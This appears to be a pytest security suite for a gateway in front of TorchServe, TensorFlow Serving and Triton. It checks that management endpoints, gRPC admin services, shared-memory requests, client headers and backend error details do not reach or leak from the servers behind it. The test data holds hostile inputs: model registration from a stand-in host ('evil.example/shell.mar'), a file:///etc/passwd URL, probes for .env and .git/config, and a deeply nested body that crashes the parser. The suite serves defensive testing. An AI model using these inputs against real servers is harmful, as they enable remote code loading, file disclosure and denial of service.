"""What clients have used against TorchServe, TensorFlow Serving and Triton: none of it gets to the servers behind."""

from __future__ import annotations

import gzip
import json

import grpc
import pytest

from tests.security.door import BODY, LEAK, MODEL, Door, request, statuses

EVIL = "http://evil.example/shell.mar"

#: Management, metrics, workflows, profilers, shared memory and repositories of the three servers.
PATHS = [
    *("/models", f"/models?url={EVIL}", f"/models/{MODEL}", f"/models/{MODEL}/1", f"/models/{MODEL}/1/set-default"),
    *(
        "/models?model_name=x&url=file:///etc/passwd",
        "/workflows",
        f"/workflows?url={EVIL}",
        "/workflows/x",
        "/wfpredict/x",
    ),
    *("/metrics", "/metrics?name[]=a", "/token?type=management", "/token", "/explanations/double", "/invocations"),
    *("/monitoring/prometheus/metrics", "/tensorflow.ProfilerService/Profile", "/profiler", "/debug/pprof", "/statsz"),
    *("/v2/systemsharedmemory/status", "/v2/systemsharedmemory/region/x/register", "/v2/cudasharedmemory/status"),
    *(
        "/v2/cudasharedmemory/region/x/register",
        "/v2/systemsharedmemory/unregister",
        "/v2/trace/setting",
        "/v2/logging",
    ),
    *("/v2/repository/models/x/load", "/v2/repository/models/x/unload", "/v2/repository/models/double/load"),
    *(
        "/v2/repository/models/double/unload",
        "/admin",
        "/admin/backends",
        "/healthz",
        "/readyz",
        "/docs",
        "/openapi.json",
    ),
    *("/redoc", "/config", "/.env", "/.git/config", "/server-status", "/actuator/env", "/console", "/shutdown"),
]


@pytest.mark.parametrize("method", ["GET", "POST", "PUT", "DELETE"])
@pytest.mark.parametrize("path", PATHS)
def test_paths_of_management_are_not_there(door: Door, path: str, method: str) -> None:
    before, asked = door.predictions, door.others_asked()
    answer = door.talk(request(path, b"{}", "Connection: close", method=method))
    assert statuses(answer)[0] in (404, 405), answer[:200]
    assert not LEAK.search(answer.partition(b"\r\n\r\n")[2])
    assert (door.predictions, door.others_asked()) == (before, asked)


METHODS = [
    "org.pytorch.serve.grpc.management.ManagementAPIsService/RegisterModel",
    "org.pytorch.serve.grpc.management.ManagementAPIsService/UnregisterModel",
    "tensorflow.serving.ModelService/HandleReloadConfigRequest",
    "tensorflow.serving.SessionService/SessionRun",
    "tensorflow.ProfilerService/Profile",
    "inference.GRPCInferenceService/SystemSharedMemoryRegister",
    "inference.GRPCInferenceService/SystemSharedMemoryStatus",
    "inference.GRPCInferenceService/CudaSharedMemoryRegister",
    "inference.GRPCInferenceService/TraceSetting",
    "inference.GRPCInferenceService/LogSettings",
    "inference.GRPCInferenceService/RepositoryModelLoad",
    "inference.GRPCInferenceService/RepositoryModelUnload",
    "grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    "grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
    "grpc.channelz.v1.Channelz/GetServers",
]


@pytest.mark.parametrize("method", METHODS)
def test_services_of_management_are_not_there(door: Door, method: str) -> None:
    before = door.predictions
    with (
        grpc.insecure_channel(f"127.0.0.1:{door.gateway.grpc_port}") as channel,
        pytest.raises(grpc.RpcError) as refused,
    ):
        channel.unary_unary(f"/{method}")(b"", timeout=10)
    assert refused.value.code() is grpc.StatusCode.UNIMPLEMENTED
    assert door.predictions == before


def test_the_body_of_cve_2025_0649_is_refused_here(door: Door) -> None:
    """Nested lists that end TensorFlow Serving's process by its parser's recursion."""
    for depth in (33, 1000, 100_000, 1_000_000):
        body = b'{"instances":' + b"[" * depth + b"1" + b"]" * depth + b"}"
        before = door.predictions
        answer = door.talk(request(f"/v1/models/{MODEL}:predict", body))
        assert statuses(answer) == [400], depth
        assert b"nested" in answer
        assert door.predictions == before


def test_shared_memory_is_refused_in_a_request(door: Door) -> None:
    tensor = {"name": "x", "shape": [1, 1], "datatype": "FP32"}
    region = {"shared_memory_region": "triton_python_backend_shm_region_1", "shared_memory_byte_size": 4}
    body = json.dumps({"inputs": [{**tensor, "parameters": region}]}).encode()
    answer = door.talk(request(body=body))
    assert statuses(answer) == [400]
    assert b"shared memory is not offered" in answer


def test_what_a_client_sends_beside_its_tensors_stays_here(door: Door) -> None:
    """TorchServe is called anew: no header, no compression, no JSON and no query of the client's."""
    door.pytorch.predicted.clear()
    lines = ("Authorization: Bearer canary-a", "X-Canary: canary-b", "Cookie: canary-c", "X-Forwarded-For: canary-d")
    body = gzip.compress(BODY.replace(b'{"inputs"', b'{"id":"canary-e","parameters":{"canary-f":1},"inputs"'))
    target = f"/v2/models/{MODEL}@pytorch/infer?canary-g"
    assert statuses(door.talk(request(target, body, "Content-Encoding: gzip", *lines))) == [200]
    (seen,) = door.pytorch.predicted
    assert "canary" not in repr(seen)
    assert seen["path"] == f"/predictions/{MODEL}/1"
    names = {name.lower() for name in seen["headers"]}
    assert names <= {"host", "content-type", "content-length", "inference-header-content-length", "authorization"}


def test_a_servers_own_words_stay_behind_it(door: Door) -> None:
    """Triton's chain of 2025 began with a name in an error's text."""
    secret = "Traceback (most recent call last): File /home/model-server/handler.py, key=canary at 10.1.2.3:7070"
    failure = json.dumps({"code": 500, "type": "InternalServerException", "message": secret}).encode()
    door.pytorch.answer = lambda: (500, {"content-type": "application/json"}, failure)
    door.tensorflow.failure = (grpc.StatusCode.INTERNAL, secret)
    try:
        for variant in ("pytorch", "tensorflow"):
            for target in (f"/v2/models/{MODEL}@{variant}/infer", f"/predictions/{MODEL}@{variant}"):
                answer = door.talk(request(target, BODY))
                assert statuses(answer)[0] >= 500
                for word in (b"Traceback", b"handler.py", b"canary", b"10.1.2.3", b"model-server"):
                    assert word not in answer, answer
    finally:
        door.pytorch.answer, door.tensorflow.failure = None, None
